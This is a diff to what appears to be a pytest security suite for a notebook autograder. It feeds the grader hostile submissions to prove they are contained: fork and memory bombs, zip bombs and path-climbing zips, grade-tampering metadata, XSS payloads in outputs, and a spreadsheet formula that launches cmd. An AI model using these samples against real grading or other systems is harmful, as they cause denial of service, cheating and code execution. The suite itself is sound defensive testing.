 SHORT.append(
     Attack(
         "a search in C that backtracks",
-        {
-            "double": "import re\ndef double(x):\n    return re.match('(a+)+$', 'a' * 60 + 'b')"
-        },
+        {"double": "import re\ndef double(x):\n    return re.match('(a+)+$', 'a' * 60 + 'b')"},
         LATE,
     )
 )
@@ -1216,31 +1407,48 @@ short(
     f"{LATE}|MemoryError|SIGSEGV|killed",
 )
 short("a power of ten", "10 ** 10**8", LATE)
-short("a sort that compares for ever", """
+short(
+    "a sort that compares for ever",
+    """
     class Slow:
         def __lt__(self, other): time.sleep(3600)
     sorted([Slow(), Slow()])
-""", LATE, where="Scale")  # fmt: skip
+""",
+    LATE,
+    where="Scale",
+)
 short("sleep for ever", "time.sleep(10**6)", LATE, where="mean_and_spread")
 short("wait for somebody to type", "input('Your password? ')", "EOFError|OSError", attacks=CLASS)
 short("read for ever", "os.read(os.pipe()[0], 1)", LATE)
-short("take the grader's words", """
+short(
+    "take the grader's words",
+    """
     from course.grading.stand_in import _Line
     os.read(_Line.channel.fileno(), 10**6)
-""", LATE)  # fmt: skip
-short("drip a frame", """
+""",
+    LATE,
+)
+short(
+    "drip a frame",
+    """
     from course.grading import frames
     from course.grading.stand_in import _Line
     _Line.channel.sendall(frames.HEADER.pack(frames.CELL, 1, 60_000))
     while True:
         _Line.channel.sendall(b" ")
         time.sleep(0.1)
-""", LATE)  # fmt: skip
-short("stop its process group for good", """
+""",
+    LATE,
+)
+short(
+    "stop its process group for good",
+    """
     signal.signal(signal.SIGTERM, signal.SIG_IGN)
     os.kill(0, signal.SIGSTOP)
     while True: time.sleep(1)
-""", LATE)  # fmt: skip
+""",
+    LATE,
+)
 short("print without end", "block = b'x' * 2**16\nwhile True: os.write(1, block)", LATE)
 short(
     "a memory bomb",
@@ -1254,34 +1462,52 @@ short(
     "allocate memory|killed by the system",
     attacks=CLASS,
 )
-short("a memory bomb in many processes", """
+short(
+    "a memory bomb in many processes",
+    """
     for i in range(12):
         if os.fork() == 0:
             held = bytearray(200 * 2**20)
             held[::4096] = bytes(len(held[::4096])).replace(b"\\0", b"x")
             time.sleep(60)
     time.sleep(60)
-""", LATE + "|killed by the system", where="Scale")  # fmt: skip
-short("a fork bomb", """
+""",
+    LATE + "|killed by the system",
+    where="Scale",
+)
+short(
+    "a fork bomb",
+    """
     while True:
         try: os.fork()
         except OSError: time.sleep(0.1)
-""", LATE + "|crashed|killed|wrote|ended", where="mean_and_spread")  # fmt: skip
-short("a fork bomb that leaves its parents", """
+""",
+    LATE + "|crashed|killed|wrote|ended",
+    where="mean_and_spread",
+)
+short(
+    "a fork bomb that leaves its parents",
+    """
     for i in range(10**6):
         try:
             if os.fork(): os._exit(0)
             os.setsid()
         except OSError: time.sleep(0.01)
-""", "ended the process it ran in|" + LATE)  # fmt: skip
-short("a class whose name takes for ever", """
+""",
+    "ended the process it ran in|" + LATE,
+)
+short(
+    "a class whose name takes for ever",
+    """
     class Meta(type):
         @property
         def __name__(cls): time.sleep(3600)
     class Slow(Exception, metaclass=Meta):
         def __str__(self): time.sleep(3600)
     raise Slow
-""", "double: ")  # fmt: skip
+""",
+    "double: ",
+)
 BEYOND_PRIVATE = {
     "shared memory": """
         held = []
@@ -1303,7 +1529,7 @@ BEYOND_PRIVATE = {
             except OSError: pass
         raise MemoryError("1.5 GB were refused")
     """,
-}  # fmt: skip
+}
 for where, source in BEYOND_PRIVATE.items():
     short(
         f"a memory bomb in {where}",
@@ -1381,9 +1607,7 @@ def _(folder, name, maker):
 
 @placed("a link in a zip", "symbolic link")
 def _(folder, name, maker):
-    (folder / f"{name}.zip").write_bytes(
-        maker.zipped((f"{TOPIC}.ipynb", f"../{RIGHT}.ipynb".encode(), LINK))
-    )
+    (folder / f"{name}.zip").write_bytes(maker.zipped((f"{TOPIC}.ipynb", f"../{RIGHT}.ipynb".encode(), LINK)))
 
 
 @placed("a device in a zip", "no notebook|empty|No notebook|unreadable|The file")
@@ -1402,16 +1626,12 @@ def _(folder, name, maker):
         f"..\\{MARK}.ipynb",
     )
     climbing = [(path, maker.wrong().to_bytes(), FILE) for path in paths]
-    (folder / f"{name}.zip").write_bytes(
-        maker.zipped(*climbing, (f"{TOPIC}.ipynb", maker.wrong().to_bytes(), FILE))
-    )
+    (folder / f"{name}.zip").write_bytes(maker.zipped(*climbing, (f"{TOPIC}.ipynb", maker.wrong().to_bytes(), FILE)))
 
 
 @placed("a zip bomb", "larger than")
 def _(folder, name, maker):
-    (folder / f"{name}.zip").write_bytes(
-        maker.zipped((f"{TOPIC}.ipynb", bytes(210 * 2**20), FILE))
-    )
+    (folder / f"{name}.zip").write_bytes(maker.zipped((f"{TOPIC}.ipynb", bytes(210 * 2**20), FILE)))
 
 
 @placed("a zip of overlapping bombs", "damaged|larger|limit|no notebook")
@@ -1420,9 +1640,7 @@ def _(folder, name, maker):
     entry = one[one.index(b"PK\1\2") : one.index(b"PK\5\6")]
     end = bytearray(one[one.index(b"PK\5\6") :])
     struct.pack_into("<HHI", end, 8, 2000, 2000, 2000 * len(entry))
-    (folder / f"{name}.zip").write_bytes(
-        bytes(one[: one.index(b"PK\1\2")] + entry * 2000 + end)
-    )
+    (folder / f"{name}.zip").write_bytes(bytes(one[: one.index(b"PK\1\2")] + entry * 2000 + end))
 
 
 @placed("zips inside zips", "no notebook|zip|No notebook")
@@ -1435,9 +1653,7 @@ def _(folder, name, maker):
 
 @placed("a million cells", "5000 are read at most")
 def _(folder, name, maker):
-    (folder / f"{name}.ipynb").write_bytes(
-        b'{"nbformat": 4, "metadata": {}, "cells": [' + b"{}," * 10**6 + b"{}]}"
-    )
+    (folder / f"{name}.ipynb").write_bytes(b'{"nbformat": 4, "metadata": {}, "cells": [' + b"{}," * 10**6 + b"{}]}")
 
 
 @placed("brackets without end", "damaged|nested|no notebook")
@@ -1448,12 +1664,8 @@ def _(folder, name, maker):
 @placed("100 MB of output", VALUES)
 def _(folder, name, maker):
     work = maker.wrong()
-    work["double"]["outputs"] = [
-        {"output_type": "stream", "name": "stdout", "text": "@"}
-    ]
-    (folder / f"{name}.ipynb").write_bytes(
-        work.to_bytes().replace(b'"@"', b'"' + b"x" * 100 * 2**20 + b'"')
-    )
+    work["double"]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "@"}]
+    (folder / f"{name}.ipynb").write_bytes(work.to_bytes().replace(b'"@"', b'"' + b"x" * 100 * 2**20 + b'"'))
 
 
 @placed("more than any file may have", "larger than 150 MB")
@@ -1464,25 +1676,19 @@ def _(folder, name, maker):
 
 @placed("bytes that are no text", "not UTF-8")
 def _(folder, name, maker):
-    (folder / f"{name}.ipynb").write_bytes(
-        maker.solved().to_bytes().replace(b"Double it", b"\xff\xfe\x80")
-    )
+    (folder / f"{name}.ipynb").write_bytes(maker.solved().to_bytes().replace(b"Double it", b"\xff\xfe\x80"))
 
 
 @placed("NUL in the code", "double: ")
 def _(folder, name, maker):
-    maker.wrong(double="def double(x):\n    return 2 * x\0").save(
-        folder / f"{name}.ipynb"
-    )
+    maker.wrong(double="def double(x):\n    return 2 * x\0").save(folder / f"{name}.ipynb")
 
 
 @placed("grading data of its own", "The grading data of (check_)?\\w+ was edited")
 def _(folder, name, maker):
     work = maker.wrong()
     for grade_id in ("double", "check_double", "Scale", "check_Scale"):
-        work[grade_id]["metadata"]["nbgrader"].update(
-            points=1e9, grade=True, locked=False, score=1e9, checksum="0"
-        )
+        work[grade_id]["metadata"]["nbgrader"].update(points=1e9, grade=True, locked=False, score=1e9, checksum="0")
     work["double"]["metadata"].update(
         tags=["setup"],
         __proto__={"points": 1e9},
@@ -1543,9 +1749,7 @@ def _(folder, name, maker):
 @placed("an edited check and a check of its own", "was edited")
 def _(folder, name, maker):
     work = maker.wrong()
-    work["check_double"]["source"] = (
-        "check = lambda *arguments: True\nopen('gradebook', 'w')"
-    )
+    work["check_double"]["source"] = "check = lambda *arguments: True\nopen('gradebook', 'w')"
     work["setup"]["source"] += "\ndef check(*arguments):\n    return 'right'"
     work.add(
         "import course\ndef check(name, thing): return True\n"
@@ -1586,10 +1790,17 @@ def _(folder, name, maker):
     work.add(MARKDOWN, cell_type="markdown")
     work.add(f"note = {HTML!r}")
     work["double"]["outputs"] = [
-        {"output_type": "display_data", "metadata": {}, "data": {
-         "text/html": SCRIPT, "application/javascript": "document.title='attacked'",
-         "image/svg+xml": "<svg onload=\"document.title='attacked'\"/>", "text/markdown": MARKDOWN}},
-    ]  # fmt: skip
+        {
+            "output_type": "display_data",
+            "metadata": {},
+            "data": {
+                "text/html": SCRIPT,
+                "application/javascript": "document.title='attacked'",
+                "image/svg+xml": "<svg onload=\"document.title='attacked'\"/>",
+                "text/markdown": MARKDOWN,
+            },
+        },
+    ]
     work.save(folder / f"{name}.ipynb")
 
 
@@ -1606,9 +1817,7 @@ def _(folder, name, maker):
 @placed("a formula in the table", "double: ")
 def _(folder, name, maker):
     formulas = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")\n=cmd|\' /C calc\'!A0,"\n+1,@SUM(1)\r-2\t=3'
-    maker.wrong(double=f"def double(x):\n    raise ValueError({formulas!r})").save(
-        folder / f"{name}.ipynb"
-    )
+    maker.wrong(double=f"def double(x):\n    raise ValueError({formulas!r})").save(folder / f"{name}.ipynb")
 
 
 @placed("=cmd|' !A0", "")
@@ -1637,16 +1846,11 @@ class Graded:
         return self.place / "out"
 
     def page(self, student: str) -> str:
-        names = {
-            json.loads(p.read_bytes())["student"]: p.stem
-            for p in (self.out / "results").glob("*.json")
-        }
+        names = {json.loads(p.read_bytes())["student"]: p.stem for p in (self.out / "results").glob("*.json")}
         return (self.out / "feedback" / f"{names[student]}.html").read_text()
 
 
-def grade(
-    attacks: list[Attack], small_course: Path, new_work, *options: str, kind: str = ""
-) -> Graded:
+def grade(attacks: list[Attack], small_course: Path, new_work, *options: str, kind: str = "") -> Graded:
     """Grade a class with these attackers in a process of its own, and look at what is left afterwards.
 
     Args:
@@ -1662,21 +1866,53 @@ def grade(
     temporary.chmod(0o777)
     with Listeners(place) as listeners, subprocess.Popen(["sleep", "3600"]) as sleeper:
         given = {
-            "root": str(place / "course"), "out": str(place / "out"), "submissions": str(place / "class"),
-            "package": str(ROOT / "course"), "temporary": str(temporary), "home": os.path.expanduser("~root"), "secret": f"secret-{MARK}",
-            "pid": os.getpid(), "sleeper": sleeper.pid, "host": socket.gethostname(), "kind": kind or house.NAMESPACES,
+            "root": str(place / "course"),
+            "out": str(place / "out"),
+            "submissions": str(place / "class"),
+            "package": str(ROOT / "course"),
+            "temporary": str(temporary),
+            "home": os.path.expanduser("~root"),
+            "secret": f"secret-{MARK}",
+            "pid": os.getpid(),
+            "sleeper": sleeper.pid,
+            "host": socket.gethostname(),
+            "kind": kind or house.NAMESPACES,
             **listeners.addresses,
-        }  # fmt: skip
+        }
         _fill(place / "class", attacks, Maker(new_work), given)
         before = _digest(place / "class"), _digest(place / "course"), _mounts()
         begin = time.monotonic()
         run = subprocess.Popen(
-            [sys.executable, "-c", START, kind, str(place / "errors"), "grade", str(place / "class"), "-a", TOPIC, "-o", str(place / "out"),
-             "--seed", "5", *options],
-            cwd=place / "course", stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, errors="replace",
-            env={**os.environ, "TMPDIR": str(temporary), "LD_LIBRARY_PATH": str(place / MARK), "PYTHONPATH": str(ROOT),
-                 "GRADERS_SECRET": f"secret-{MARK}", "OMP_NUM_THREADS": "1"},
-        )  # fmt: skip
+            [
+                sys.executable,
+                "-c",
+                START,
+                kind,
+                str(place / "errors"),
+                "grade",
+                str(place / "class"),
+                "-a",
+                TOPIC,
+                "-o",
+                str(place / "out"),
+                "--seed",
+                "5",
+                *options,
+            ],
+            cwd=place / "course",
+            stdout=subprocess.PIPE,
+            stderr=subprocess.STDOUT,
+            text=True,
+            errors="replace",
+            env={
+                **os.environ,
+                "TMPDIR": str(temporary),
+                "LD_LIBRARY_PATH": str(place / MARK),
+                "PYTHONPATH": str(ROOT),
+                "GRADERS_SECRET": f"secret-{MARK}",
+                "OMP_NUM_THREADS": "1",
+            },
+        )
         said, _ = run.communicate(timeout=900)
         seconds = time.monotonic() - begin
         left = {
@@ -1690,10 +1926,11 @@ def grade(
             "changed course": sorted(set(_digest(place / "course").items()) ^ set(before[1].items())),
             "bystanders that were touched": [s for s in [_state(sleeper.pid)] if s != "S"],
             "files elsewhere": [
-                str(path) for top in ("/tmp", "/dev/shm", "/var/tmp", str(ROOT / "course"), "/", sys.prefix)
+                str(path)
+                for top in ("/tmp", "/dev/shm", "/var/tmp", str(ROOT / "course"), "/", sys.prefix)
                 for path in Path(top).glob(f"{MARK}*")
             ],
-        }  # fmt: skip
+        }
         sleeper.kill()
     rows = {}
     if (place / "out" / "grades.csv").exists():
@@ -1752,8 +1989,7 @@ class Listeners:
         self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         self.udp.bind(("0.0.0.0", 0))
         self.abstract, self.by_path, self.datagrams = (
-            socket.socket(socket.AF_UNIX, kind)
-            for kind in (socket.SOCK_STREAM, socket.SOCK_STREAM, socket.SOCK_DGRAM)
+            socket.socket(socket.AF_UNIX, kind) for kind in (socket.SOCK_STREAM, socket.SOCK_STREAM, socket.SOCK_DGRAM)
         )
         name = f"course-attack-{place.name}"
         self.abstract.bind(f"\0{name}")
@@ -1763,9 +1999,13 @@ class Listeners:
         self.abstract.listen()
         self.by_path.listen()
         self.addresses = {
-            "port": self.tcp.getsockname()[1], "port6": self.tcp6.getsockname()[1], "udp": self.udp.getsockname()[1],
-            "lan": _own_address(), "abstract": name, "path": str(place / "socket"),
-        }  # fmt: skip
+            "port": self.tcp.getsockname()[1],
+            "port6": self.tcp6.getsockname()[1],
+            "udp": self.udp.getsockname()[1],
+            "lan": _own_address(),
+            "abstract": name,
+            "path": str(place / "socket"),
+        }
 
     def heard(self) -> list[str]:
         found = []
@@ -1816,20 +2056,13 @@ def _digest(folder: Path) -> dict[str, str]:
         status = path.lstat()
         content = str(path.readlink()) if path.is_symlink() else ""
         if stat.S_ISREG(status.st_mode):
-            content = (
-                hashlib.sha256(path.read_bytes()).hexdigest()
-                if status.st_size < 2**30
-                else str(status.st_size)
-            )
+            content = hashlib.sha256(path.read_bytes()).hexdigest() if status.st_size < 2**30 else str(status.st_size)
         found[str(path)] = f"{status.st_mode} {content}"
     return found
 
 
 def _mounts() -> set[str]:
-    return {
-        line.split()[4]
-        for line in Path("/proc/self/mountinfo").read_text().splitlines()
-    }
+    return {line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines()}
 
 
 def _processes(*marks: str) -> list[str]:
@@ -1838,14 +2071,10 @@ def _processes(*marks: str) -> list[str]:
         found = []
         for folder in Path("/proc").glob("[0-9]*"):
             try:
-                text = (folder / "environ").read_bytes() + (
-                    folder / "cmdline"
-                ).read_bytes()
+                text = (folder / "environ").read_bytes() + (folder / "cmdline").read_bytes()
             except OSError:
                 continue
-            if int(folder.name) != os.getpid() and any(
-                mark.encode() in text for mark in marks
-            ):
+            if int(folder.name) != os.getpid() and any(mark.encode() in text for mark in marks):
                 found.append(f"{folder.name} {text[-200:]!r}")
         if not found:
             return []
@@ -1913,8 +2142,20 @@ def weaker(request, small_course, new_work):
     remove_folder(made.place)
 
 
-ENDINGS = ("kill everyone", "kill its", "stop who", "processes that go on", "folders", "links to", "too many",
-           "a detached process", "os._exit", "os.abort", "close everything", "two megabytes")  # fmt: skip
+ENDINGS = (
+    "kill everyone",
+    "kill its",
+    "stop who",
+    "processes that go on",
+    "folders",
+    "links to",
+    "too many",
+    "a detached process",
+    "os._exit",
+    "os.abort",
+    "close everything",
+    "two megabytes",
+)
 ON_ALL_WALLS = [
     *PROBES,
     *(attack for attack in CLASS if attack.name.startswith(ENDINGS)),
@@ -1922,29 +2163,19 @@ ON_ALL_WALLS = [
 
 
 def by_name(attacks: list[Attack]):
-    return pytest.mark.parametrize(
-        "attack", attacks, ids=[attack.name for attack in attacks]
-    )
+    return pytest.mark.parametrize("attack", attacks, ids=[attack.name for attack in attacks])
 
 
 def check(graded: Graded, attack: Attack) -> None:
-    names = {
-        str(json.loads(path.read_bytes())["student"])
-        for path in (graded.out / "results").glob("*.json")
-    }
+    names = {str(json.loads(path.read_bytes())["student"]) for path in (graded.out / "results").glob("*.json")}
     assert graded.status == 0, graded.said[-3000:]
-    row = graded.rows.get(attack.name) or graded.rows.get(
-        f"'{attack.name}"
-    )  # of a name that is no formula any more
+    row = graded.rows.get(attack.name) or graded.rows.get(f"'{attack.name}")  # of a name that is no formula any more
     assert row is not None, f"no row for {attack.name}; there is {sorted(graded.rows)}"
     about = f"{attack.name}: {row}"
     assert attack.name in names or row["student"] in names, about
     assert float(row["points"]) == attack.points, about
     assert set(row["status"].split(",")) <= set(STATUSES), about
-    assert (
-        "no fault of the student" not in row["message"]
-        and "the grader failed" not in row["message"]
-    ), about
+    assert "no fault of the student" not in row["message"] and "the grader failed" not in row["message"], about
     assert re.search(attack.says, row["message"] + told_itself(graded, attack)), about
 
 
@@ -1960,23 +2191,20 @@ def check_the_class(graded: Graded, attacks: list[Attack]) -> None:
     assert "Traceback" not in graded.said, graded.said[-3000:]
     for student, wanted in HONEST.items():
         assert {key: graded.rows[student][key] for key in wanted} == wanted
-    assert len(graded.rows) == len(attacks) + sum(
-        name.startswith("an honest") for name in graded.rows
-    )
+    assert len(graded.rows) == len(attacks) + sum(name.startswith("an honest") for name in graded.rows)
     assert {what: found for what, found in graded.left.items() if found} == {}
     with sqlite3.connect(graded.out / "gradebook.db") as book:
-        assert book.execute(
-            "SELECT count(*) FROM grade WHERE manual_score IS NOT NULL"
-        ).fetchone() == (0,)
-        scores = dict(book.execute(
-            "SELECT student.id, total(grade.auto_score) FROM grade "
-            "JOIN submitted_notebook ON submitted_notebook.id = grade.notebook_id "
-            "JOIN submitted_assignment ON submitted_assignment.id = submitted_notebook.assignment_id "
-            "JOIN student ON student.id = submitted_assignment.student_id GROUP BY student.id"))  # fmt: skip
+        assert book.execute("SELECT count(*) FROM grade WHERE manual_score IS NOT NULL").fetchone() == (0,)
+        scores = dict(
+            book.execute(
+                "SELECT student.id, total(grade.auto_score) FROM grade "
+                "JOIN submitted_notebook ON submitted_notebook.id = grade.notebook_id "
+                "JOIN submitted_assignment ON submitted_assignment.id = submitted_notebook.assignment_id "
+                "JOIN student ON student.id = submitted_assignment.student_id GROUP BY student.id"
+            )
+        )
     assert scores[RIGHT] == 6.5 and scores[WRONG] == 1.5
-    assert sum(scores.values()) == pytest.approx(
-        sum(float(row["points"]) for row in graded.rows.values())
-    )
+    assert sum(scores.values()) == pytest.approx(sum(float(row["points"]) for row in graded.rows.values()))
     assert sorted(os.listdir(graded.out)) == sorted(
         {
             ".lock",
@@ -1992,9 +2220,7 @@ def check_the_class(graded: Graded, attacks: list[Attack]) -> None:
         | ({"similar"} & set(os.listdir(graded.out)))
     )
     pages = {path.stem for path in (graded.out / "feedback").iterdir()}
-    assert pages == {path.stem for path in (graded.out / "results").iterdir()} and len(
-        pages
-    ) == len(graded.rows)
+    assert pages == {path.stem for path in (graded.out / "results").iterdir()} and len(pages) == len(graded.rows)
 
 
 @by_name([*CLASS, *PROBES])
@@ -2038,9 +2264,7 @@ def test_without_walls_the_probes_reach_what_they_are_after(small_course, new_wo
     )
     try:
         for attack in probes:
-            assert re.search(r"reached \['", told_itself(made, attack)), (
-                attack.name
-            )
+            assert re.search(r"reached \['", told_itself(made, attack)), attack.name
     finally:
         remove_folder(made.place)
 
@@ -2124,15 +2348,10 @@ def test_no_page_holds_anything_that_runs_or_loads(graded):
                 page,
                 attributes,
             )
-            assert (
-                attributes.get("http-equiv", "Content-Security-Policy")
-                == "Content-Security-Policy"
-            )
+            assert attributes.get("http-equiv", "Content-Security-Policy") == "Content-Security-Policy"
             for name in ("href", "src"):
                 value = (attributes.get(name) or "").strip().lower()
-                assert not re.match(
-                    r"[\x00-\x20]*(java|vb)?script:|data:(?!image/png;base64,)", value
-                ), (page, value)
+                assert not re.match(r"[\x00-\x20]*(java|vb)?script:|data:(?!image/png;base64,)", value), (page, value)
             assert (attributes.get("src") or "data:").startswith("data:"), (
                 page,
                 attributes,
@@ -2141,11 +2360,7 @@ def test_no_page_holds_anything_that_runs_or_loads(graded):
 
 def test_templates_in_student_text_stay_text(graded):
     page = graded.page("a page that runs something")
-    assert (
-        page.count("{{ 7 * 7 }}") >= 2
-        and "subclasses" in page
-        and "&lt;class" not in page
-    )
+    assert page.count("{{ 7 * 7 }}") >= 2 and "subclasses" in page and "&lt;class" not in page
     assert ">49<" not in page and " 49 " not in page
 
 
@@ -2154,10 +2369,7 @@ def test_tables_hold_no_formula(graded):
         with open(graded.out / name, newline="", encoding="utf-8-sig") as file:
             for row in csv.reader(file, strict=True):
                 for value in row:
-                    assert (
-                        not re.match(r"[=+@\t\r]|-(?!\d)", value)
-                        and value.isprintable()
-                    ), (name, value)
+                    assert not re.match(r"[=+@\t\r]|-(?!\d)", value) and value.isprintable(), (name, value)
 
 
 @pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine")
@@ -2170,23 +2382,12 @@ def test_in_a_browser_no_script_runs_and_no_request_leaves(graded):
         "--no-first-run",
         "--disable-background-networking",
     ]
-    hostile = [
-        a.name
-        for a in CLASS
-        if "page" in a.name or "<" in a.name or "formula" in a.name
-    ]
-    names = {
-        json.loads(p.read_bytes())["student"]: p.stem
-        for p in (graded.out / "results").glob("*.json")
-    }
-    pages = [graded.out / "feedback" / f"{names[name]}.html" for name in hostile] + [
-        graded.out / "report.html"
-    ]
+    hostile = [a.name for a in CLASS if "page" in a.name or "<" in a.name or "formula" in a.name]
+    names = {json.loads(p.read_bytes())["student"]: p.stem for p in (graded.out / "results").glob("*.json")}
+    pages = [graded.out / "feedback" / f"{names[name]}.html" for name in hostile] + [graded.out / "report.html"]
     requests: list[str] = []
     with playwright.sync_playwright() as running:
-        browser = running.chromium.launch(
-            executable_path=CHROMIUM, headless=True, args=flags
-        )
+        browser = running.chromium.launch(executable_path=CHROMIUM, headless=True, args=flags)
         page = browser.new_page()
         page.on("request", lambda request: requests.append(request.url))
         page.on(
@@ -2204,15 +2405,6 @@ def test_in_a_browser_no_script_runs_and_no_request_leaves(graded):
                 if not address.startswith(("file:", "http")):
                     link.click(timeout=1000, no_wait_after=True)
             assert page.title() != "attacked"
-            assert [
-                url
-                for url in requests
-                if not url.startswith(("file:", "data:image/png"))
-            ] == [], path
-            assert (
-                page.evaluate(
-                    "document.querySelectorAll('script, iframe, svg, form, img[src^=http]').length"
-                )
-                == 0
-            )
+            assert [url for url in requests if not url.startswith(("file:", "data:image/png"))] == [], path
+            assert page.evaluate("document.querySelectorAll('script, iframe, svg, form, img[src^=http]').length") == 0
         browser.close()
